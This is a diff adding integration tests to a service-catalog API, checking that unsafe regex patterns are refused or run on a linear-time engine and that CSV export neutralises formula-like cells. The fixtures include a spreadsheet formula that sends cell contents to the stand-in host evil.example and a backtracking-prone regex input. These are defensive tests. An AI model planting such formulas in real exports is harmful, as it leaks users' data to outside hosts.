@@ -1,4 +1,5 @@
 import type { INestApplicationContext } from '@nestjs/common';
+import { parse } from 'csv-parse/sync';
 import { DateTime } from 'luxon';
 import { OutboxRelayService } from '../../../src/modules/outbox/outbox-relay.service';
 import { createTestApp, type TestApp } from '../../support/app';
@@ -123,6 +124,20 @@ describe('Service catalog (GCS 4.1–4.3)', () => {
     expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual(['form.0.key', 'form.0.validation.options']);
   });
 
+  it('refuses at save time a form pattern the linear-time engine cannot run, and runs the others on it', async () => {
+    const lookahead = [{ key: 'clave', type: 'text', label: 'Clave', required: true, validation: { regex: '^(?=.*\\d)\\w+$' } }];
+    const refused = await create({ code: 'RX-01', name: 'Patrón', form: lookahead }).expect(400);
+    expect(refused.body.errors).toEqual([{ field: 'form.0.validation.regex', message: expect.stringContaining('RE2') }]);
+    const imported = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'json', services: [{ code: 'RX-02', name: 'Patrón', category: 'Soporte', type: 'both', form: lookahead }] }).expect(400);
+    expect(imported.body.errors.map((e: { field: string }) => e.field)).toEqual(['rows.0.form.0.validation.regex']);
+
+    const words = [{ key: 'nombre', type: 'text', label: 'Nombre', required: true, validation: { regex: '^(\\w+\\s?)*$' } }];
+    const svc = (await create({ code: 'RX-03', name: 'Nombres', status: 'active', form: words }).expect(201)).body;
+    const bad = await as(t.url, requester).post('/api/v1/tickets').send({ serviceId: svc.id, title: 'x', description: 'y', formData: { nombre: 'a'.repeat(27) + '!' } }).expect(400);
+    expect(bad.body.errors).toEqual([{ field: 'formData.nombre', message: 'Nombre no tiene el formato esperado' }]);
+    await as(t.url, requester).post('/api/v1/tickets').send({ serviceId: svc.id, title: 'x', description: 'y', formData: { nombre: 'Ana Torres' } }).expect(201);
+  });
+
   it('tells the desk staff about each publication, in-app', async () => {
     await create({ code: 'NOTIF-01', name: 'Servicio nuevo', status: 'active' }).expect(201);
     const worker: INestApplicationContext = await startWorkerByHand(t.config);
@@ -189,6 +204,27 @@ describe('Catalog import and export', () => {
     expect(services.find((s: { code: string }) => s.code === 'RED-DATOS')).toMatchObject({ status: 'active', ownerOrganisation: 'SFIA', form: [{ key: 'ip' }] });
     const again = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'json', services }).expect(200);
     expect(again.body).toEqual({ created: 0, updated: 2 });
+  });
+
+  it('exports formula-like cells neutralised, and imports its own export back unchanged', async () => {
+    const hostile = { code: 'FORMULA-1', name: '@Servicio', description: '=HYPERLINK("http://evil.example/?"&A1,"Ver detalle")', category: '+Soporte', subcategory: "'citado", type: 'both' };
+    await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'json', services: [hostile] }).expect(200);
+    const exported = await as(t.url, manager).get('/api/v1/catalog/services/export?format=csv').expect(200);
+    const rows = parse(exported.text) as string[][];
+    const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(dangerous).toEqual([]);
+    const row = rows.find((r) => r[0] === 'FORMULA-1')!;
+    expect(row.slice(1, 5)).toEqual(['\'@Servicio', `'${hostile.description}`, "'+Soporte", "''citado"]);
+
+    const again = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'csv', content: exported.text }).expect(200);
+    expect(again.body.created).toBe(0);
+    const [stored] = await t.dataSource.query(`SELECT name, description, category, subcategory FROM catalog_services WHERE code = 'FORMULA-1'`);
+    expect(stored).toEqual({ name: hostile.name, description: hostile.description, category: hostile.category, subcategory: hostile.subcategory });
+  });
+
+  it('names a JSON row whose organisation list is not a list, instead of failing', async () => {
+    const res = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'json', services: [{ code: 'LISTA-1', name: 'x', category: 'c', type: 'both', allowedOrganisations: 'SFIA' }] }).expect(400);
+    expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual(['rows.0.allowedOrganisationIds']);
   });
 
   it('applies nothing when any row is bad, and reports every bad row', async () => {
